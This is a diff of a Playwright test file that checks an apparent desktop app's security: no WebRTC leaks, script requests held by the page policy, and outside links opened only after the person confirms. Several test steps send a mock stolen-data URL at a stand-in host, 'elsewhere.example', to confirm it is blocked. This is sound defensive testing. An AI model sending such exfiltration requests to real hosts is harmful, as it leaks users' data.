@@ -6,7 +6,16 @@ import { expect, test } from '@playwright/test';
 import { chromium, type Page } from 'playwright-core';
 import { findChromium } from '../../scripts/lib/chromium.mjs';
 import { appReady } from './support/driver.ts';
-import { launchLatchkey } from './support/launch.ts';
+import { type Latchkey, launchLatchkey } from './support/launch.ts';
+
+let latchkey: Latchkey;
+test.beforeAll(async () => {
+  latchkey = await launchLatchkey({ env: { LATCHKEY_HOST_NETWORK: 'app' } });
+  await appReady(latchkey.page);
+});
+test.afterAll(async () => {
+  await latchkey.close();
+});
 
 interface Policies {
   readonly trustedTypes: { createPolicy(name: string, rules: { createHTML(text: string): string }): unknown };
@@ -70,20 +79,15 @@ test('the window sends nothing over WebRTC, by UDP or TCP, where a browser does'
   await expect.poll(() => listeners.heard.udp > 0 && listeners.heard.tcp > 0).toBe(true);
   await browser.close();
 
-  const latchkey = await launchLatchkey({ env: { LATCHKEY_HOST_NETWORK: 'app' } });
-  await appReady(latchkey.page);
   Object.assign(listeners.heard, { udp: 0, tcp: 0 });
   await connect(latchkey.page, listeners);
   await expect.poll(() => gathering(latchkey.page)).toBe('complete');
   expect(listeners.heard).toEqual({ udp: 0, tcp: 0 });
-  await latchkey.close();
   listeners.close();
 });
 
 test('requests and markup of a script end at the page’s policy', async () => {
-  const latchkey = await launchLatchkey({ runtime: 'host' });
   const { page } = latchkey;
-  await appReady(page);
   await page.evaluate(async () => {
     const elsewhere = 'https://elsewhere.example/?stolen=data';
     const directives = new Set<string>();
@@ -125,14 +129,13 @@ test('requests and markup of a script end at the page’s policy', async () => {
     ]);
   // The host hears of what passes the policy. It replaces WebSocket, so that one is not tried.
   expect(latchkey.facts.filter(({ host }) => host === 'refused-request')).toEqual([]);
-  await latchkey.close();
 });
 
 test('a link opens only when the person confirms its host', async () => {
-  const latchkey = await launchLatchkey({ runtime: 'host' });
-  const { page } = latchkey;
+  const host = latchkey.runtime === 'host' ? latchkey : await launchLatchkey({ runtime: 'host' });
+  const { page } = host;
   await appReady(page);
-  const opened = () => latchkey.facts.filter(({ host }) => host === 'opened-outside');
+  const opened = () => host.facts.filter((fact) => fact.host === 'opened-outside');
   const open = (url: string) =>
     page.evaluate((address) => {
       const bridge = window as unknown as { latchkey: { app: { openLink(input: object): Promise<unknown> } } };
@@ -141,8 +144,8 @@ test('a link opens only when the person confirms its host', async () => {
   await page.evaluate(() => window.open('https://elsewhere.example/?stolen=data'));
   await open('https://elsewhere.example/?stolen=data');
   expect(opened()).toEqual([]);
-  await latchkey.answerMessageBox(0);
+  await host.answerMessageBox(0);
   await open('https://docs.example/');
   expect(opened()).toEqual([{ host: 'opened-outside', url: 'https://docs.example/' }]);
-  await latchkey.close();
+  if (host !== latchkey) await host.close();
 });
